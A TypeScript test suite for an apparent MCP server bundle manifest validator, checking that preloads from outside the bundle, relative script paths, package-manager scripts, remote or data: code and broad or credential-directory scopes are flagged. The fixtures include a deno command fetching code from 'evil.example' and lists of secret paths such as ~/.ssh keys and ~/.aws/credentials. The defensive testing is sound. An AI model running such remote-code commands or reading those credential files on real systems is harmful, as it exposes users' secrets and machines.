// The hardened profile by class (issue 10, item 4): code that is not a file of the bundle
// (preloads of paths or packages outside it, relative script paths the host's working directory
// decides, package.json scripts run by a shell, deno remote and data: specifiers); broad scopes
// and home-directory secrets as warnings a policy can act on; user_config defaults held to the
// same path rules, as errors.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { validateManifest, type Finding } from '../lib/index.ts';
import { ROOT } from './helpers/cli.ts';

type Manifest = Record<string, any>;

const EXAMPLE: Manifest = JSON.parse(await readFile(join(ROOT, 'examples/hello-bundle/manifest.json'), 'utf8'));
const ENTRY = '${__dirname}/server/index.js';
const ARGS = '/server/mcp_config/args';
const SCOPES = '/_meta/dev.mcpseal/scopes';

function variant(change: (manifest: Manifest) => void): Manifest {
  const copy = structuredClone(EXAMPLE);
  change(copy);
  return copy;
}

function withCommand(type: string, command: string, args: string[]): Manifest {
  return variant((m) => {
    m['server']['type'] = type;
    m['server']['mcp_config'] = { command, args, env: {} };
    m['_meta']['dev.mcpseal']['scopes']['env'] = { read: [], secrets: [] };
  });
}

function lines(findings: readonly Finding[]): string[] {
  return findings.map((finding) => `${finding.severity} ${finding.code} ${finding.pointer}`);
}

function findingsOf(manifest: Manifest): string[] {
  return lines(validateManifest(manifest).findings);
}

describe('code loaded from outside the bundle (MANIFEST_CODE_OUTSIDE_BUNDLE)', () => {
  // [type, command, args, expected finding]
  const REFUSED: Array<[string, string, string[], string]> = [
    ['node', 'node', ['--require', '/tmp/x.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['-r', '${HOME}/hook.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['-r', 'dotenv/config', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--require=./hook.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--import', 'tsx', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--import=file:///tmp/x.mjs', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--import', '${__dirname}/../x.mjs', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--loader', '${user_config.notes_directory}/l.mjs', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--experimental-loader=C:\\hooks\\l.mjs', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'bun', ['--preload', '/tmp/p.ts', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--snapshot-blob', '/tmp/snap.blob', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--experimental-default-config-file', ENTRY], `error MANIFEST_ENV_INJECTION ${ARGS}/0`],
    ['uv', 'uv', ['run', 'node', '-r', '/tmp/x.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/2`],
    // The script itself: relative (the working directory decides) or elsewhere.
    ['node', 'node', ['server/index.js'], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['./server/index.js'], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['--no-warnings', 'server\\index.js'], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
    ['node', 'node', ['/usr/lib/node_modules/x/index.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['node', 'node', ['${__dirname}/../../x.js', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['python', 'python3', ['-u', 'server/main.py', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
    ['python', 'python', ['main.py'], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
    ['uv', 'uv', ['run', 'server.py', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
    ['uv', 'uv', ['run', 'python', 'src/server.py', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/2`],
    ['node', 'deno', ['run', '-A', 'main.ts', ENTRY], `error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/2`],
  ];
  for (const [type, command, args, expected] of REFUSED) {
    it(`${command} ${args.filter((arg) => arg !== ENTRY).join(' ')} is ${expected.split(' ')[1]}`, () => {
      const found = findingsOf(withCommand(type, command, args));
      assert.ok(found.includes(expected), found.join('\n'));
    });
  }

  const CLEAN: Array<[string, string, string[]]> = [
    ['node', 'node', ['--require', '${__dirname}/server/trace.js', ENTRY]],
    ['node', 'node', ['--import=file://${__dirname}/server/hooks.mjs', ENTRY]],
    ['node', 'node', ['--import', 'node:process', ENTRY]],
    ['node', 'node', ['--snapshot-blob', '${__dirname}/server/snap.blob', ENTRY]],
    ['node', 'node', ['-r', '${__dirname}\\server\\trace.js', ENTRY]],
    ['node', 'node', [ENTRY, 'relative/arg/after/the/script']],
    ['uv', 'uv', ['--directory', '${__dirname}', 'run', 'server.py', ENTRY]],
    ['uv', 'uv', ['run', '--directory', '${__dirname}', 'python', 'src/server.py', ENTRY]],
    ['uv', 'uv', ['run', 'mcp-server', ENTRY]],
    ['python', 'python3', ['-m', 'my_server', ENTRY]],
    ['python', 'python3', ['${__dirname}/server/main.py', ENTRY]],
  ];
  for (const [type, command, args] of CLEAN) {
    it(`${command} ${args.filter((arg) => arg !== ENTRY).join(' ')} loads only the bundle's code`, () => {
      assert.deepEqual(findingsOf(withCommand(type, command, args)).filter((line) => /OUTSIDE_BUNDLE|INLINE|SHELL|FETCHER/u.test(line)), []);
    });
  }

  it('any preload not under ${__dirname}, in any option spelling, is flagged (property)', () => {
    const option = fc.constantFrom('--require', '-r', '--import', '--loader', '--experimental-loader');
    const segment = fc.stringMatching(/^[a-z][a-z0-9_-]{0,7}$/u);
    const where = fc.constantFrom('/tmp/', '${HOME}/', './', '', '../', '${__dirname}/../', 'file:///opt/', '${DOCUMENTS}/', 'C:\\');
    fc.assert(
      fc.property(option, fc.boolean(), where, fc.array(segment, { minLength: 1, maxLength: 3 }), (name, attached, prefix, segments) => {
        const value = `${prefix}${segments.join('/')}.js`;
        const args = attached && name.startsWith('--') ? [`${name}=${value}`, ENTRY] : [name, value, ENTRY];
        return findingsOf(withCommand('node', 'node', args)).includes(`error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`);
      }),
      { seed: 10_44, numRuns: 400 },
    );
  });

  it('any relative script path is flagged for node and python, and the same path under ${__dirname} is not (property)', () => {
    const segment = fc.stringMatching(/^[a-z][a-z0-9_-]{0,7}$/u);
    fc.assert(
      fc.property(fc.constantFrom(['node', 'node', '.js'], ['python', 'python3', '.py']), fc.array(segment, { minLength: 1, maxLength: 3 }), fc.boolean(), ([type, command, extension], segments, dotted) => {
        const relative = `${dotted ? './' : ''}${segments.join('/')}${extension}`;
        const bad = findingsOf(withCommand(type, command, [relative])).filter((line) => line.includes('OUTSIDE_BUNDLE'));
        const good = findingsOf(withCommand(type, command, [`\${__dirname}/${segments.join('/')}${extension}`])).filter((line) => line.includes('OUTSIDE_BUNDLE'));
        assert.deepEqual(bad, [`error MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`]);
        assert.deepEqual(good, []);
      }),
      { seed: 10_45, numRuns: 200 },
    );
  });
});

describe('package managers and deno that run something other than the bundle', () => {
  const CASES: Array<[string, string, string[], string]> = [
    ['uv', 'uv', ['run', 'npm', 'start', ENTRY], `error MANIFEST_SHELL_COMMAND ${ARGS}/1`],
    ['uv', 'uv', ['run', 'npm', 'run', 'serve', ENTRY], `error MANIFEST_SHELL_COMMAND ${ARGS}/1`],
    ['uv', 'uv', ['run', 'pnpm', 'start', ENTRY], `error MANIFEST_SHELL_COMMAND ${ARGS}/1`],
    ['uv', 'uv', ['run', 'yarn', 'run', 'serve', ENTRY], `error MANIFEST_SHELL_COMMAND ${ARGS}/1`],
    ['uv', 'uv', ['run', 'yarn', 'exec', 'x', ENTRY], `error MANIFEST_SHELL_COMMAND ${ARGS}/1`],
    ['uv', 'uv', ['run', 'npm', 'exec', 'some-server', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/1`],
    ['uv', 'uv', ['run', 'pnpm', 'dlx', 'some-server', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/1`],
    ['uv', 'uv', ['run', 'yarn', 'dlx', 'some-server', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/1`],
    ['node', 'bunx', ['some-server', ENTRY], 'warning MANIFEST_RUNTIME_FETCHER /server/mcp_config/command'],
    ['node', 'deno', ['run', 'npm:some-server', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/1`],
    ['node', 'deno', ['run', 'jsr:@x/server', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/1`],
    ['node', 'deno', ['run', '-A', 'https://evil.example/x.ts', ENTRY], `warning MANIFEST_RUNTIME_FETCHER ${ARGS}/2`],
    ['node', 'deno', ['run', 'data:application/typescript,console.log(1)', ENTRY], `error MANIFEST_INLINE_CODE ${ARGS}/1`],
  ];
  for (const [type, command, args, expected] of CASES) {
    it(`${command} ${args.filter((arg) => arg !== ENTRY).join(' ')} is ${expected.split(' ').slice(0, 2).join(' ')}`, () => {
      const found = findingsOf(withCommand(type, command, args));
      assert.ok(found.includes(expected), found.join('\n'));
    });
  }
});

describe('broad scopes and home-directory secrets: warnings a policy can act on', () => {
  const CASES: Array<['read' | 'write', string, string | null]> = [
    ['write', '/', 'SCOPE_BROAD_PATH'],
    ['write', '${/}', 'SCOPE_BROAD_PATH'],
    ['read', '/', 'SCOPE_BROAD_PATH'],
    ['read', '${HOME}', 'SCOPE_BROAD_PATH'],
    ['write', '${HOME}/', 'SCOPE_BROAD_PATH'],
    ['write', '${HOME}/.', 'SCOPE_BROAD_PATH'],
    ['read', 'C:\\', 'SCOPE_BROAD_PATH'],
    ['read', '/home/alice', 'SCOPE_BROAD_PATH'],
    ['write', '/Users/bob/', 'SCOPE_BROAD_PATH'],
    ['read', '${HOME}/.ssh', 'SCOPE_SECRET_PATH'],
    ['read', '${HOME}/.ssh/id_ed25519', 'SCOPE_SECRET_PATH'],
    ['write', '${HOME}/.aws/credentials', 'SCOPE_SECRET_PATH'],
    ['read', '${HOME}/.config/gcloud', 'SCOPE_SECRET_PATH'],
    ['read', '${HOME}/.Docker/config.json', 'SCOPE_SECRET_PATH'],
    ['read', '/root/.gnupg', 'SCOPE_SECRET_PATH'],
    ['read', '/home/alice/.kube/config', 'SCOPE_SECRET_PATH'],
    ['read', '${HOME}/.netrc', 'SCOPE_SECRET_PATH'],
    ['read', '${HOME}/projects', null],
    ['read', '${HOME}/.sshx', null],
    ['read', '${HOME}/.config/app', null],
    ['write', '/var/tmp/app', null],
    ['read', '${DOCUMENTS}', null],
  ];
  for (const [kind, path, code] of CASES) {
    it(`${kind} "${path}" is ${code === null ? 'not flagged' : `a ${code} warning`}`, () => {
      const manifest = variant((m) => m['_meta']['dev.mcpseal']['scopes']['filesystem'][kind].push(path));
      const index = kind === 'read' ? 2 : 0;
      const result = validateManifest(manifest);
      assert.deepEqual(lines(result.findings), code === null ? [] : [`warning ${code} ${SCOPES}/filesystem/${kind}/${index}`]);
      assert.equal(result.valid, true, 'an honest declaration is not refused by validation');
    });
  }

  it('the message says what the scope grants and what to do', () => {
    const manifest = variant((m) => m['_meta']['dev.mcpseal']['scopes']['filesystem']['write'].push('${HOME}'));
    const [finding] = validateManifest(manifest).findings;
    assert.match(finding!.message, /lets the server create, change and delete the whole home directory/u);
    assert.match(finding!.message, /name the directories it needs/u);
  });
});

describe('user_config defaults held to the scope path rules (MANIFEST_CONFIG_DEFAULT_PATH)', () => {
  const CASES: Array<[string, string, unknown, boolean]> = [
    ['directory', 'root', '/', true],
    ['directory', 'separator variable', '${/}', true],
    ['directory', 'home as ~', '~', true],
    ['directory', 'home as ~/', '~/', true],
    ['directory', 'home as ${HOME}', '${HOME}', true],
    ['directory', 'drive root', 'C:\\', true],
    ['directory', '~/.ssh', '~/.ssh', true],
    ['directory', '${HOME}/.aws', '${HOME}/.aws', true],
    ['file', '~/.aws/credentials', '~/.aws/credentials', true],
    ['file', 'a written-out home secret', '/home/alice/.ssh/id_rsa', true],
    ['file', '~/.npmrc', '~/.npmrc', true],
    ['directory', 'one bad item of a list', ['${DOCUMENTS}/notes', '~/.gnupg'], true],
    ['directory', 'a relative path', 'notes', true],
    ['directory', 'a path climbing with ..', '${DOCUMENTS}/../../etc', true],
    ['file', 'a dot-relative path', './memory.json', true],
    ['directory', '~/Documents/notes', '~/Documents/notes', false],
    ['directory', '${HOME}/notes', '${HOME}/notes', false],
    ['file', '${DOCUMENTS}/memory.json', '${DOCUMENTS}/memory.json', false],
    ['directory', '${__dirname}/data', '${__dirname}/data', false],
  ];
  for (const [type, name, value, refused] of CASES) {
    it(`a ${type} option defaulting to ${name} is ${refused ? 'refused' : 'accepted'}`, () => {
      const manifest = variant((m) => {
        m['user_config']['place'] = { type, title: 'Place', description: 'a place', ...(Array.isArray(value) ? { multiple: true } : {}), default: value };
      });
      assert.deepEqual(findingsOf(manifest), refused ? ['error MANIFEST_CONFIG_DEFAULT_PATH /user_config/place/default'] : []);
    });
  }

  it('the message says why a default matters', () => {
    const manifest = variant((m) => (m['user_config']['notes_directory']['default'] = '~/.ssh'));
    const [finding] = validateManifest(manifest).findings;
    assert.match(finding!.message, /lies in ~\/\.ssh, where credentials live: every scope on this option would grant it/u);
  });
});
